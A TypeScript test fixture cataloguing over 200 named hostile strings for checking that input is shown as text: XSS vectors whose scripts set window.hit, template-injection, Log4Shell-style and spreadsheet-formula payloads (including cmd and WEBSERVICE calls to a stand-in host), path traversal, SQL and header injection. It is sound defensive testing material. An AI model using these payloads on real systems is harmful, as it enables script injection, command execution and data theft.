/**
 * Texts that would run, or break out of where they are shown, were they not taken as letters: over 200 cases by families, each with a
 * name. Those that run set `hit`.
 */
const RUN = 'window.hit=1'

/** Texts by their names. */
type Cases = Readonly<Record<string, string>>

const SCRIPTS: Cases = {
  'a script': `<script>${RUN}</script>`,
  'a script in mixed case': `<ScRiPt>${RUN}</sCrIpT>`,
  'a script by its address': `<script src="data:text/javascript,${RUN}"></script>`,
  'a script from elsewhere': '<script src="https://example.invalid/x.js"></script>',
  'a module': `<script type="module">${RUN}</script>`,
  'a script with a space': `< script >${RUN}</ script >`,
  'a script with a slash': `<script/x>${RUN}</script>`,
  'a script over two lines': `<script\n>${RUN}</script\n>`,
  'a script with a tab': `<script\t>${RUN}</script>`,
  'a script inside a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script without an end': `<script>${RUN}//`,
  'a script without a bracket': `<script ${RUN}`,
  'a script in a template': `<template><script>${RUN}</script></template>`,
  'a script behind noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'a script of JSON': `<script type="application/json">{"x":1}</script><script>${RUN}</script>`,
}

/** Elements whose attribute runs. */
const on = (tag: string, attribute: string, more = '') => `<${tag}${more} ${attribute}="${RUN}">`

const EVENTS: Cases = {
  'img, onerror': `<img src=x onerror=${RUN}>`,
  'img, onerror in quotes': on('img', 'onerror', ' src=x'),
  'img in capitals': `<IMG SRC=x ONERROR=${RUN}>`,
  'img with slashes': `<img/src=x/onerror=${RUN}>`,
  'img with backticks': `<img src=x onerror=\`${RUN}\`>`,
  'img with a line feed': `<img src=x\nonerror\n=\n${RUN}>`,
  'img, onload': on('img', 'onload', ' src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'),
  'img without an end': `<img src=x onerror=${RUN} `,
  'image as a name of img': `<image src=x onerror=${RUN}>`,
  'img, srcset': `<img srcset="x" onerror="${RUN}">`,
  'body, onload': on('body', 'onload'),
  'body, onpageshow': on('body', 'onpageshow'),
  'input, onfocus': on('input', 'onfocus', ' autofocus'),
  'select, onfocus': on('select', 'onfocus', ' autofocus'),
  'textarea, onfocus': on('textarea', 'onfocus', ' autofocus'),
  'button, onfocus': on('button', 'onfocus', ' autofocus'),
  'any element, onfocus': on('x', 'onfocus', ' tabindex=1 autofocus'),
  'details, ontoggle': on('details', 'ontoggle', ' open'),
  'video, onerror of its source': `<video><source onerror="${RUN}"></video>`,
  'video, onloadstart': on('video', 'onloadstart', ' src=x'),
  'audio, onerror': on('audio', 'onerror', ' src=x'),
  'marquee, onstart': on('marquee', 'onstart'),
  'iframe, onload': on('iframe', 'onload'),
  'object, onerror': on('object', 'onerror', ' data=x'),
  'style, onload': `<style onload="${RUN}"></style>`,
  'link, onload': on('link', 'onload', ' rel=stylesheet href="data:text/css,"'),
  'p, onanimationstart': `<style>@keyframes x{}</style>${on('p', 'onanimationstart', ' style="animation:x 1s"')}`,
  'p, onpointerenter': on('p', 'onpointerenter', ' style="position:fixed;inset:0"'),
  'p, oncontentvisibilityautostatechange': on(
    'p',
    'oncontentvisibilityautostatechange',
    ' style="content-visibility:auto"',
  ),
  'dialog, onclose': `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
}

const FRAMES: Cases = {
  'iframe of a script': `<iframe src="javascript:${RUN}"></iframe>`,
  'iframe of a document': '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  'iframe from elsewhere': '<iframe src="https://example.invalid/"></iframe>',
  'frame in a frameset': `<frameset><frame src="javascript:${RUN}"></frameset>`,
  'object of a script': `<object data="javascript:${RUN}"></object>`,
  'object of a page':
    '<object type="text/html" data="data:text/html,<script>parent.hit=1</script>"></object>',
  'embed of a script': `<embed src="javascript:${RUN}">`,
  'embed of a drawing': `<embed src="data:image/svg+xml,<svg onload='parent.hit=1'/>">`,
  portal: '<portal src="https://example.invalid/"></portal>',
  'form that sends itself': `<form id=f action="javascript:${RUN}"><input type=submit autofocus></form>`,
  'button with an address of its own': `<form><button formaction="javascript:${RUN}" autofocus>x</button></form>`,
  'form that takes the page over': '<form action="https://example.invalid/"><input name=password></form>',
}

const ADDRESSES: Cases = {
  'link of a script': `<a href="javascript:${RUN}">xem</a>`,
  'link of a script in capitals': `<a href="JaVaScRiPt:${RUN}">xem</a>`,
  'link with a tab inside': `<a href="java\tscript:${RUN}">xem</a>`,
  'link with a line feed inside': `<a href="java\nscript:${RUN}">xem</a>`,
  'link behind spaces': `<a href="   javascript:${RUN}">xem</a>`,
  'link in entities': `<a href="&#106;avascript:${RUN}">xem</a>`,
  'link in entities without an end': `<a href="&#x6A&#x61vascript:${RUN}">xem</a>`,
  'link of a page of data': '<a href="data:text/html,<script>opener.hit=1</script>">xem</a>',
  'link of data in base64':
    '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0PTE8L3NjcmlwdD4=">xem</a>',
  'link of VBScript': '<a href="vbscript:hit=1">xem</a>',
  'link without a protocol': '<a href="//example.invalid">xem</a>',
  'area of a map': `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m>`,
  'a bare address of a script': `javascript:${RUN}`,
  'a bare address in capitals': `JAVASCRIPT:${RUN}//`,
  'a bare address with a comment': `javascript:/*--></title></style>*/${RUN}`,
  'a bare address of data': `data:text/html,<script>${RUN}</script>`,
  'a link of Markdown': `[xem](javascript:${RUN})`,
  'a picture of Markdown': `![x](x"onerror="${RUN})`,
  'a link of wikis': `[[javascript:${RUN}|xem]]`,
  'an address that looks like another': 'https://shop.vn@example.invalid/%0d%0aSet-Cookie:x=1',
  base: '<base href="https://example.invalid/">',
  'meta that goes on': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  'meta that sets a cookie': '<meta http-equiv="Set-Cookie" content="Admin-Token=x">',
  'meta of a policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
}

const DRAWINGS: Cases = {
  'svg, onload': `<svg onload=${RUN}>`,
  'svg, onload with a slash': `<svg/onload=${RUN}>`,
  'svg with a script': `<svg><script>${RUN}</script></svg>`,
  'svg with a script by its address': `<svg><script href="data:,${RUN}"/></svg>`,
  'svg with a script in entities': '<svg><script>&#119;indow.hit=1</script></svg>',
  'svg with CDATA': `<svg><script><![CDATA[${RUN}]]></script></svg>`,
  'svg, animate': `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  'svg, set': `<svg><set onbegin=${RUN} attributeName=x to=1>`,
  'svg, an animated address': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a></svg>`,
  'svg, foreign object': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'svg, use': `<svg><use href="data:image/svg+xml,<svg id='x'><script>${RUN}</script></svg>#x"/></svg>`,
  'svg, image': `<svg><image href="x" onerror="${RUN}"/></svg>`,
  'svg, style': '<svg><style>*{display:none!important}</style></svg>',
  'svg, title': `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  'mathml with a picture': `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  'mathml, a link': `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  'mathml, an action': `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
  'mathml, an annotation': `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
}

const STYLES: Cases = {
  'everything hidden': '<style>*{display:none!important}</style>',
  'everything on top': '<p style="position:fixed;inset:0;background:red;z-index:99999">x</p>',
  'an imported style': `<style>@import 'javascript:${RUN}'</style>`,
  'a style from elsewhere': '<link rel=stylesheet href="https://example.invalid/x.css">',
  'a style of data': '<link rel=stylesheet href="data:text/css,*{display:none!important}">',
  'a picture of a style': '<p style="background:url(https://example.invalid/x)">x</p>',
  'a style that reads a value': '<style>input[value^=a]{background:url(https://example.invalid/a)}</style>',
  'an expression': `<p style="width:expression(${RUN})">x</p>`,
  'a behaviour': '<p style="behavior:url(x.htc)">x</p>',
  'a binding': `<p style="-moz-binding:url('data:text/xml,x')">x</p>`,
  'the end of a style': '</style><style>*{display:none!important}</style>',
  'a rule alone': '}*{display:none!important}',
}

const BREAKOUTS: Cases = {
  'out of an attribute': `"><script>${RUN}</script>`,
  'out of single quotes': `'><img src=x onerror=${RUN}>`,
  'out of backticks': `\`><img src=x onerror=${RUN}>`,
  'one more attribute': `" onmouseover="${RUN}" x="`,
  'one more attribute, focused': `' onfocus='${RUN}' autofocus='`,
  'an attribute without quotes': `x onfocus=${RUN} autofocus`,
  'out of paper': `</bdi></p></section><script>${RUN}</script>`,
  'out of a table': `</td></tr></table><img src=x onerror=${RUN}>`,
  'out of a title': `</title><script>${RUN}</script>`,
  'out of a style': `</style><script>${RUN}</script>`,
  'out of a script': `</script><script>${RUN}</script>`,
  'out of a text area': `</textarea><img src=x onerror=${RUN}>`,
  'out of an option': `</option></select><img src=x onerror=${RUN}>`,
  'out of a comment': `--><script>${RUN}</script><!--`,
  'out of CDATA': `]]><script>${RUN}</script>`,
  'out of a string': `';${RUN};'`,
  'out of a string in double quotes': `";${RUN};"`,
  'out of a string by a backslash': `\\';${RUN}//`,
  'out of JSON': `"}</script><script>${RUN}</script>`,
  'a comment that stays open': `<!--<img src="--><img src=x onerror=${RUN}>`,
}

const TEMPLATES: Cases = {
  'a literal of JavaScript': `\${${RUN}}`,
  Angular: `{{constructor.constructor('${RUN}')()}}`,
  Vue: `{{_openBlock.constructor('${RUN}')()}}`,
  Handlebars: '{{#with "s" as |x|}}{{x.constructor}}{{/with}}',
  EJS: `<%= ${RUN} %>`,
  Jinja: '{{ config.__class__.__init__.__globals__ }}',
  Freemarker: `<#assign x="freemarker.template.utility.Execute"?new()>\${x("id")}`,
  Ruby: '#{7*7}',
  Thymeleaf: `__\${7*7}__::.x`,
  'words of the console': '{name} {{name}} $t(app:name)',
  'words with a number': '{count} {count, plural, one {#}}',
  'a lookup of logs': `\${jndi:ldap://example.invalid/x}`,
}

const ENTITIES: Cases = {
  named: `&lt;script&gt;${RUN}&lt;/script&gt;`,
  decimal: `&#60;script&#62;${RUN}&#60;/script&#62;`,
  hexadecimal: `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  'without an end': `&#60script&#62${RUN}`,
  'with zeros': `&#0000060;script&#0000062;${RUN}`,
  twice: `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  'of addresses': `%3Cscript%3E${RUN}%3C/script%3E`,
  'of addresses, twice': `%253Cscript%253E${RUN}`,
  'of JavaScript': `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  'of JavaScript, two digits': `\\x3cscript\\x3e${RUN}`,
  'of UTF-7': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  'full width': `＜script＞${RUN}＜/script＞`,
}

const MUTATIONS: Cases = {
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'style in mathml': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  'a paragraph in svg': `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  'a title in svg': `<svg><title><a title="</title><img src=x onerror=${RUN}>">`,
  backticks: `<img alt="\`\`onerror=${RUN}">`,
  'a text area': `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  listing: `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  'plain text': `<plaintext><img src=x onerror=${RUN}>`,
  'a select': `<select><iframe><p title="</iframe></select><img src=x onerror=${RUN}>">`,
  'a namespace': `<svg><desc><math><mi><img src=x onerror=${RUN}></mi></math></desc></svg>`,
}

/** Cells of a sheet that count, where they are not text. */
const FORMULAS: Cases = {
  'an equals sign': '=1+1',
  'a link': '=HYPERLINK("https://example.invalid","xem")',
  'a program': `=cmd|' /C calc'!A0`,
  'a plus sign': '+1+1',
  'a minus sign': '-2+3',
  'an at sign': '@SUM(A1:A9)',
  'behind a tab': '\t=1+1',
  'behind a line feed': '\n=1+1 hàng hai',
  'behind a quote': `'=1+1`,
  'in quotes': '"=1+1"',
  'another column': 'x,=1+1',
  'another column by a semicolon': 'x;=1+1',
  'full width': '＝1+1',
  'a percent sign': '%=1+1',
  'data of the web': '=WEBSERVICE("https://example.invalid/"&A1)',
  'a picture': '=IMAGE("https://example.invalid/x.png")',
}

const UNSEEN: Cases = {
  'turned around': '\u202egnôhk <b>\u202c',
  isolated: '\u2067abc <i>\u2069 def',
  'a file name turned around': 'tai-lieu\u202efdp.exe',
  'without an end': '\u202e\u202e\u202eabc',
  'joined by nothing': '<scr\u200bipt>window.hit=1</scr\u200bipt>',
  'a byte order mark inside': '\ufeff=1+1\ufeff',
  'stacked marks': `Gậy ${'\u0300\u0301\u0302\u0303'.repeat(20)} gỗ`,
  'a soft hyphen': 'ja\u00advascript:window.hit=1',
  'separators of lines': 'a\u2028window.hit=1\u2029b',
  controls: 'a\u0001\u0008\u001b[31mb\u007f',
  'a null': 'a\u0000<script>window.hit=1</script>',
  'half a pair': 'abc \ud800 def',
  'the other half': 'abc \udc00 def',
  'a pair the wrong way round': 'abc \udc00\ud800 def',
  'signs of no character': 'abc \uffff \ufffe def',
  'letters that look alike': '<ѕсrірt>window.hit=1</ѕсrірt>',
}

const OTHER: Cases = {
  'a path': '../../../etc/passwd %00',
  'a path of Windows': '..\\..\\windows\\system32 CON AUX',
  SQL: `Robert'); drop table questions;--`,
  'a pattern': '%_%\\_[a-z]*(a+)+$',
  'a prototype': '{"__proto__":{"hit":1},"constructor":{"prototype":{"hit":1}}}',
  'a header': 'abc\r\nSet-Cookie: Admin-Token=x\r\n\r\n<script>window.hit=1</script>',
  'a long word': 'W'.repeat(200),
  'a long line': 'dài '.repeat(49),
  'open tags': '<b><i><u><p><table><tr><td><ul><li>'.repeat(4),
  'closed tags': '</div></main></body></html>'.repeat(4),
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈 Ường <b>😀',
}

const FAMILIES: Readonly<Record<string, Cases>> = {
  script: SCRIPTS,
  event: EVENTS,
  frame: FRAMES,
  address: ADDRESSES,
  drawing: DRAWINGS,
  style: STYLES,
  breakout: BREAKOUTS,
  template: TEMPLATES,
  entity: ENTITIES,
  mutation: MUTATIONS,
  formula: FORMULAS,
  unseen: UNSEEN,
  other: OTHER,
}

export type HostileCase = { name: string; text: string }

/** All of them; each fits into a line of 200 signs. */
export const hostileCases: readonly HostileCase[] = Object.entries(FAMILIES).flatMap(([family, cases]) =>
  Object.entries(cases).map(([name, text]) => ({ name: `${family}: ${name}`, text })),
)

/** Those that a database can hold. */
export const hostileTexts: readonly string[] = hostileCases
  .map(({ text }) => text)
  .filter((text) => text.isWellFormed() && !text.includes('\0'))
